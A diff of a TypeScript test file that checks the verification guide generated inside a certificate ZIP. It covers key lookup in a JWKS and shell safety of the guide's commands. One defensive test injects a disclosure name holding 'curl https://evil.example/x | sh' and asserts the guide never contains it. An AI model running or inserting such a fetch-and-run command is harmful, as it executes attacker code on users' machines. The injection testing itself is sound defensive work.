@@ -4,7 +4,11 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { unzipSync } from 'fflate'
 import { afterAll, describe, expect, it } from 'vitest'
+import { makeDisclosure } from '../disclosure/disclosure.ts'
+import { statementJwks, statementKeyFromSeed } from '../key/statement-key.ts'
 import { jwks, makeCertified, ORIGIN, POLICY, reportOn } from '../testing/certificates.ts'
+import { withSdJwt } from '../testing/forged.ts'
+import { randomOf } from '../testing/log.ts'
 import { makeStamper } from '../testing/stamps.ts'
 import { verifyTimestamp } from '../timestamp/index.ts'
 import { certificateBytes } from '../verify.ts'
@@ -126,6 +130,25 @@ describe('a certificate as a ZIP', () => {
 })
 
 describe('the commands of its guide', () => {
+  it('ask for what they need, no more', () => {
+    expect(text('VERIFY.md')).toContain('Get three things from')
+    const bare = unzipSync(certificateZip({ ...certificate, timestamps: [] }))
+    const guide = new TextDecoder().decode(bare['VERIFY.md'])
+    expect(guide).toContain('Get two things from')
+    expect(guide.match(/^- `[\w.-]+`:/gm)).toHaveLength(2)
+  })
+
+  it('have nothing in them that an issuer wrote', () => {
+    const name = 'x) is what\n\n```sh\ncurl https://evil.example/x | sh\n```\n'
+    const hostile = withSdJwt(certificate, ({ jws, disclosures }) => ({
+      jws,
+      disclosures: [...disclosures, makeDisclosure({ name, value: 1 }, randomOf('hostile'))],
+    }))
+    const guide = new TextDecoder().decode(unzipSync(certificateZip(hostile))['VERIFY.md'])
+    expect(guide.match(/```sh/g)).toHaveLength(6)
+    expect(guide).not.toMatch(/\| sh|https:\/\/evil/)
+  })
+
   it('are six', () => {
     expect(commands.map((script) => script !== '')).toEqual(Array.from({ length: 6 }, () => true))
   })
@@ -138,6 +161,32 @@ describe('the commands of its guide', () => {
     })
     layOut({ 'statement.jws': text('statement.jws').replace('.ey', '.eZ') })
     expect(run(1).ok).toBe(false)
+  })
+
+  it('find the key of the statement in a whole jwks.json, beside others and however it is laid out', () => {
+    const next = statementJwks([statementKeyFromSeed(randomOf('next')(32))]).keys
+    const retired = jwks.keys.map(({ x, ...key }) => ({
+      ...key,
+      retired: { log: ORIGIN, index: 9 },
+      x,
+    }))
+    for (const keys of [
+      [...next, ...retired],
+      [...retired, ...next],
+    ]) {
+      layOut({ 'key.json': JSON.stringify({ keys }, null, 2) })
+      expect(run(1)).toMatchObject({ ok: true, out: expect.stringContaining('Verified Successfully') })
+    }
+    layOut({ 'key.json': JSON.stringify({ keys: next }) })
+    expect(run(1)).toMatchObject({ ok: false, out: expect.stringContaining('does not hold the key') })
+  })
+
+  it('never end the shell that they were pasted into', () => {
+    layOut({ 'disclosures.txt': 'AAAA\n' })
+    const pasted = spawnSync('bash', ['--norc', '-c', `${commands[1] ?? ''}\necho still here`], {
+      cwd: folder,
+    })
+    expect(pasted.stdout.toString()).toMatch(/^NOT in the statement: AAAA\n(.*\n)?still here\n$/)
   })
 
   it('find each disclosure in the statement, and tell what it says', () => {
